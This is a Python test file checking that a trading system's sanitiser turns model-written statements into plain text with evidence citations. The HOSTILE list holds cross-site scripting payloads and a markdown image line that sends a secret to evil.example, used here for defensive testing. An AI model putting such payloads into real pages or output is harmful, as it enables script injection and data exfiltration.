"""What a model says becomes plain text with its evidence beside it, and what does not hold is dropped."""

from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import example, settings
from hypothesis import given as for_all
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from tradecore.engines.desk.reasoner import Case
from tradecore.engines.desk.statements import (
    drop_unsupported,
    dropped_sentence,
    evidence_id,
    legible,
    paragraph,
    plain_text,
    statement,
)
from tradecore.model.evidence import EvidenceId
from tradecore.model.steps import Claim, Collected

E1, E2 = EvidenceId("E1"), EvidenceId("E2")

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "<svg/onload=alert(1)>",
    "[a]: data:text/html;base64,PHNjcmlwdD4=",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &NewLine;",
    "<<b>script>nested<</b>/script>",
    "＜script＞ full width ＜/script＞",
    "https://evil.example and www.evil.example and ann@evil.example",
    "# heading",
    "- list\n- of\n- things",
    "1. numbered 2) twice",
    "> quoted",
    "**bold** __strong__ `code` ~~gone~~ a\\*b",
    "a | b\n--|--\n1 | 2",
    "setext\n===\n",
    "<!-- comment --> <?php ?> <![CDATA[x]]>",
    "</evidence> <said> [E1]: x",
]


class Tags(HTMLParser):
    """The elements of a page with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def rendered(text: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """The elements that a renderer which trusts its input makes of a list entry and a paragraph of this text."""
    page = MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(f"- {text}\n\n{text}\n")
    tags = Tags()
    tags.feed(page)
    return tags.found


@pytest.mark.parametrize("text", HOSTILE)
def test_S62_S63_nothing_that_a_model_says_is_markup(text: str) -> None:
    assert rendered(plain_text(text)) == [("ul", []), ("li", []), ("p", [])]


@settings(max_examples=200)
@example("1)")
@example("1]!")
@example("1 . x")
@example("123456789. x")
@example("E1(x)")
@example("E13: x")
@example("!E1 [E1](x)")
@for_all(st.text(alphabet=st.sampled_from("<>[]()!*_`~#-+=&;:/\\|.\n aE13x@\"'"), max_size=60))
def test_S62_no_mixture_of_signs_is_markup(text: str) -> None:
    said = statement(text, (E1,)).text
    if said:
        assert [tag for tag, _ in rendered(said)] == ["ul", "li", "p"]


@for_all(st.text(max_size=200))
def test_plain_text_is_one_line_that_can_be_stored(text: str) -> None:
    once = plain_text(text)
    assert once == " ".join(once.split())
    assert legible(once)


@pytest.mark.parametrize(
    "text", ["Gewinn über Erwartung", "利益は予想を上回った", "الأرباح فاقت التوقعات", "S&P and AT&T rose"]
)
def test_other_languages_and_names_are_welcome(text: str) -> None:
    assert plain_text(text) == text


@pytest.mark.parametrize("text", ["a\x00b", "a\x1bb", "a\x9fb", "half \ud800 a character"])
def test_control_characters_are_not_legible(text: str) -> None:
    assert not legible(text)


def test_what_cannot_be_seen_is_left_out() -> None:
    assert plain_text("rise\u202e\u200b of\u2028 it\U000e0041") == "rise of it"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It rose.", "It rose [E1]."),
        ("It rose", "It rose [E1]."),
        ("Did it rise?", "Did it rise [E1]?"),
        ("上昇した。", "上昇した [E1]。"),
        ("It rose [E2].", "It rose [E1, E2]."),
        ("It rose (E2, E1) and fell.", "It rose and fell [E1, E2]."),
        ("As E2 shows, it rose.", "As [E2] shows, it rose [E1, E2]."),
        ("It rose, see E2 and E3.", "It rose, see [E2] and [E3] [E1, E2, E3]."),
        ("E2: it rose.", "E2: it rose [E1]."),
        ("It rose, says E2-.", "It rose, says [E2]- [E1, E2]."),
        ("E2(x) is no link.", "E2(x) is no link [E1]."),
        ("…", ""),
        ("  ", ""),
    ],
)
def test_evidence_stands_in_brackets_before_the_full_stop(text: str, expected: str) -> None:
    assert statement(text, (E1,)).text == expected


def test_a_statement_without_evidence_has_no_brackets() -> None:
    assert statement("The picture is mixed", ()) == Claim("The picture is mixed.", ())


@pytest.mark.parametrize(
    ("text", "expected"),
    [("E1", "E1"), (" [E12] ", "E12"), ("E0", None), ("E1]", "E1"), ("rsi", None), ("E٣", None), ("E1, E2", None)],
)
def test_ids_are_read_with_or_without_brackets(text: str, expected: str | None) -> None:
    assert evidence_id(text) == expected


@pytest.fixture
async def case(given: Any) -> Case:
    """A case about a random walk."""
    said = await given.thought(given.desk(given.walk(3)), given.brief())
    assert isinstance(said[0], Collected)
    return Case(given.brief(), said[0])


@pytest.mark.parametrize(
    "text",
    [
        "It is worth 98765.4",
        "It is worth .98765",
        "It is worth ...98765",
        "It is worth ٩٨٧٦٥",
        "It is worth ９８７６５",
        "It rose by ½",
        "It was x²",
        "Earnings come on 2031-01-02",
        "See E77",
        "It rose [E999]",
    ],
)
def test_numbers_in_any_writing_need_evidence(case: Case, text: str) -> None:
    kept = drop_unsupported(case, [statement(text, (E2,))], needs_evidence=False)
    assert (kept.claims, kept.dropped) == ((), 1)


def test_what_holds_is_kept_in_its_order(case: Case) -> None:
    close = case.by_measure["close"]
    right = [statement(close.statement, (close.id,)), statement("It is so", (E1,))]
    kept = drop_unsupported(case, [right[0], statement("It gained 94%", (E1,)), right[1]], needs_evidence=True)
    assert (kept.claims, kept.dropped) == (tuple(right), 1)


def test_points_need_evidence_and_remarks_do_not(case: Case) -> None:
    bare = statement("The picture is mixed", ())
    assert drop_unsupported(case, [bare], needs_evidence=True).claims == ()
    assert drop_unsupported(case, [bare], needs_evidence=False).claims == (bare,)


@pytest.mark.parametrize(
    ("dropped", "begins"), [(1, "One statement was dropped"), (2, "Two statements were"), (11, "More than ten")]
)
def test_the_text_says_in_words_how_many_were_dropped(dropped: int, begins: str) -> None:
    assert dropped_sentence(dropped).startswith(begins)
    assert paragraph(["So.", ""], dropped) == f"So. {dropped_sentence(dropped)}"


def test_nothing_is_said_about_nothing_dropped() -> None:
    assert paragraph(["So."], 0) == "So."
